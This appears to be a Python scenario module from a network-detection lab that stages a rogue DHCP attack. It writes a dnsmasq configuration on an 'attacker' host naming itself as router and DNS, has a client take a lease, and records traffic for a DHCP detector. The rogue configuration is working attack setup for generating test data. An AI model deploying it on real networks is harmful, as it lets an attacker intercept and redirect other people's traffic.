"""A rogue DHCP server (dnsmasq on a compromised host) answering a device's
DISCOVER before the city's own, handing out itself as router and DNS."""
import os

import benign

NAME = 'rogue-dhcp'
KIND = 'rogue-dhcp'
TOOLS = ['dhclient', 'dnsmasq', 'lighttpd', 'mosquitto', 'tcpdump']
FAST = False
EXPECT = []
DETECTORS = ['dhcp']
ATTACKER = '10.20.0.66'


def run(lab, ctx):
    benign.city(lab, ctx, dns_extra=['dhcp-range=10.20.0.100,10.20.0.149,255.255.255.0,1h',
                                     'interface=eth0', 'dhcp-leasefile=%s/leases' % ctx.dir])
    lab.host('attacker', [ATTACKER + '/24'])
    lab.host('client', [])
    conf = os.path.join(ctx.dir, 'rogue.conf')
    with open(conf, 'w') as f:
        f.write('port=0\nno-resolv\nbind-interfaces\ninterface=eth0\n'
                'dhcp-range=10.20.0.150,10.20.0.199,255.255.255.0,1h\n'
                'dhcp-option=3,%s\ndhcp-option=6,%s\ndhcp-authoritative\n'
                'dhcp-leasefile=%s/rogue.leases\npid-file=%s/rogue.pid\n'
                % (ATTACKER, ATTACKER, ctx.dir, ctx.dir))
    lab.start('attacker', ['dnsmasq', '-k', '-C', conf], log=ctx.log('rogue'))
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=6)
    cmd = ['dhclient', '-1', '-v', '-sf', '/bin/true', '-lf', os.path.join(ctx.dir, 'cl.leases'),
           '-pf', os.path.join(ctx.dir, 'cl.pid'), 'eth0']
    lab.run('client', cmd, timeout=20, log=ctx.log('dhclient'))
    return {'tool': 'dnsmasq (rogue)', 'command': 'dnsmasq dhcp-range .150-.199, router and DNS '
            '= itself; dhclient on a device', 'attacker': [ATTACKER], 'victim': [],
            'benign': benign.ADDRS, 'first': 'dhcp.option.dhcp==2 && ip.src==%s' % ATTACKER}
